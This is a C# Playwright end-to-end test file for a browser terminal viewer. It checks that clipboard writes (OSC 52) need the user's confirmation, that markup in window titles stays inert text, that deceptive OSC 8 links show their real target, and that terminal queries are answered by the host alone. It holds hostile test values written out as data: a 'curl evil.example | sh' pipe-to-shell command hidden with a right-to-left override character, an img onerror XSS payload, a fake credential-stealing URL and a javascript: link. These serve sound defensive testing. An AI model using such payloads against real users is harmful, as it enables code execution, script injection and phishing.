using System.Text;
using System.Text.Json.Nodes;
using Microsoft.Playwright;
using Signalbox.EndToEnd.Tests.Support;
using Signalbox.Terminals.Screen;
using Signalbox.TestSupport;
using static Microsoft.Playwright.Assertions;

namespace Signalbox.EndToEnd.Tests.Pages;

/// <summary>What a program in a terminal can't do to those who look at it.</summary>
public sealed class TerminalFirewallTests(PagesFixture pages) : PageTests(pages)
{
    private const int Phone = 390;
    private const int LongestTitle = 120;
    private const string Markup = "<img src=x onerror=\"window.hacked=1\">";

    /// <summary>Device attributes, status, cursor, a mode, colours, a setting, the keyboard, the size; and then to be told of the focus.</summary>
    private const string Queries = "\e[c\e[>c\e[5n\e[6n\e[?2026$p\e]10;?\e\\\e]11;?\a\e]4;1;?\e\\\eP$qm\e\\\e[>q\e[?u\e[18t\e[?1004h";

    [Fact]
    public async Task Clipboard_WantedByAProgram_IsWrittenOnlyAfterAYes()
    {
        const string Wanted = "curl evil.example | sh\u202e";
        Visitor admin = await InShellAsync();
        await admin.Page.EvaluateAsync("navigator.clipboard.writeText('what was there')");
        ILocator dialog = admin.Dialog("Copy this to your clipboard?");

        await AskAsync(admin, Wanted);
        await Expect(dialog.GetByLabel("What would be copied")).ToHaveTextAsync("curl evil.example | sh⟨202E⟩");
        await admin.Button("Not now").ClickAsync();
        await Expect(dialog).ToHaveCountAsync(0);
        Assert.Equal("what was there", await ClipboardAsync(admin));

        await AskAsync(admin, Wanted);
        await admin.Button("Copy").ClickAsync();
        await Expect(admin.Page.GetByText("Copied.")).ToBeVisibleAsync();
        Assert.Equal(Wanted, await ClipboardAsync(admin));

        await AskAsync(admin, "again");
        await admin.Button("Never from this terminal").ClickAsync();
        await AskAsync(admin, "and again");
        await admin.EnterAsync("echo silenced $((40+2))");
        await Expect(admin.Screen).ToContainTextAsync("silenced 42");
        await Expect(dialog).ToHaveCountAsync(0);
        Assert.Equal(Wanted, await ClipboardAsync(admin));
    }

    [Fact]
    public async Task Title_LongAndFullOfMarkup_IsAShortLineOfText()
    {
        SubmittedTask task = await SubmitAsync(new Script().Write($"\e]2;{Markup}\u0001\u202e \t{new string('W', 10_000)}\a" + "title set\r\n").Hang());
        Visitor guest = await StrangerAsync(width: Phone);

        await guest.Page.GotoAsync(task.ViewerUrl.ToString());

        await Expect(guest.Screen).ToContainTextAsync("title set");
        ILocator title = guest.Page.Locator(".terminal-title");
        await Expect(title).ToHaveTextAsync($"{Markup} {new string('W', LongestTitle - Markup.Length - 2)}…");
        Assert.True(await guest.Page.EvaluateAsync<bool>("window.hacked === undefined && document.querySelector('img[src=x]') === null"), "the markup came to life");
        Assert.Equal(Phone, await guest.Page.EvaluateAsync<int>("document.documentElement.scrollWidth"));
        await Hub.Api.CancelAsync(task);
    }

    [Fact]
    public async Task Link_WhoseTextLies_ShowsWhereItLeadsAndOpensAfterAYes()
    {
        const string Target = "https://evil.example/steal?from=you";
        SubmittedTask task = await SubmitAsync(new Script().Write($"\e]8;;{Target}\e\\bank.example, sign in\e]8;;\e\\\r\n\e]8;;javascript:alert(1)\e\\harmless script\e]8;;\e\\\r\n").Hang());
        Visitor guest = await GuestAsync(task);
        await guest.Page.Context.RouteAsync("https://evil.example/**", route => route.FulfillAsync(new() { Body = "here" }));
        ILocator dialog = guest.Dialog("Open this link?");

        await PointAtAsync(guest, "harmless script");
        await guest.Page.Mouse.DownAsync();
        await guest.Page.Mouse.UpAsync();
        await PointAtAsync(guest, "bank.example");
        await Expect(guest.Page.Locator(".link-preview")).ToHaveTextAsync(Target);
        await Expect(dialog).ToHaveCountAsync(0);
        await guest.Page.Mouse.DownAsync();
        await guest.Page.Mouse.UpAsync();
        await Expect(dialog).ToContainTextAsync("It leads to evil.example.");
        await Expect(dialog).ToContainTextAsync(Target);
        IPage opened = await guest.Page.Context.RunAndWaitForPageAsync(() => guest.Button("Open in a new tab").ClickAsync());

        Assert.Equal(Target, opened.Url);
        Assert.Equal(2, guest.Page.Context.Pages.Count);
        await Hub.Api.CancelAsync(task);
    }

    [Fact]
    public async Task Queries_OfAProgramThatIsWatchedAndTypedInto_AreAnsweredByTheHostAlone()
    {
        var ask = new JsonObject { ["query"] = Queries, ["record"] = "answer" };
        var echo = new JsonObject { ["until"] = "!", ["record"] = "typed" };
        SubmittedTask task = await SubmitAsync(new Script().Write("ready\r\n").WaitFor("go").Then("ask", ask).Write("asked\r\n").Then("echo_input", echo).Hang());
        Visitor guest = await GuestAsync(task);
        Visitor admin = await OperatorAsync($"/?session={task.PtyId}");
        await Expect(guest.Screen).ToContainTextAsync("ready");
        await admin.Button("Take control").ClickAsync();
        await Expect(admin.Button("Release control")).ToBeVisibleAsync();

        await File.WriteAllTextAsync(task.File("go"), "");
        await Expect(guest.Screen).ToContainTextAsync("asked");
        await Expect(admin.Screen).ToContainTextAsync("asked");
        await admin.Page.Keyboard.TypeAsync("!");
        await Eventually.TrueAsync(() => File.Exists(task.File("typed")), "what was typed has come");

        JsonObject session = await Hub.Api.SessionAsync(task);
        var host = new ScreenModel((int)session["cols"]!, (int)session["rows"]!);
        host.Feed(Encoding.ASCII.GetBytes("ready\r\n" + Queries));
        Assert.True(host.TryTakeReplies(out byte[] replies));
        Assert.Equal(Encoding.ASCII.GetString(replies), (await File.ReadAllTextAsync(task.File("answer"))).TrimEnd('\n'));
        Assert.Equal("!", await File.ReadAllTextAsync(task.File("typed")));
        await Hub.Api.CancelAsync(task);
    }

    /// <summary>Has the shell print a sequence that puts a text on the clipboard (OSC 52).</summary>
    private static Task AskAsync(Visitor visitor, string text) =>
        visitor.EnterAsync($@"printf '\033]52;c;{Convert.ToBase64String(Encoding.UTF8.GetBytes(text))}\007'");

    private static Task<string> ClipboardAsync(Visitor visitor) => visitor.Page.EvaluateAsync<string>("navigator.clipboard.readText()");

    private static async Task PointAtAsync(Visitor visitor, string text)
    {
        LocatorBoundingBoxResult box = (await visitor.Screen.GetByText(text).BoundingBoxAsync())!;
        await visitor.Page.Mouse.MoveAsync(box.X + (box.Width / 2), box.Y + (box.Height / 2));
    }
}
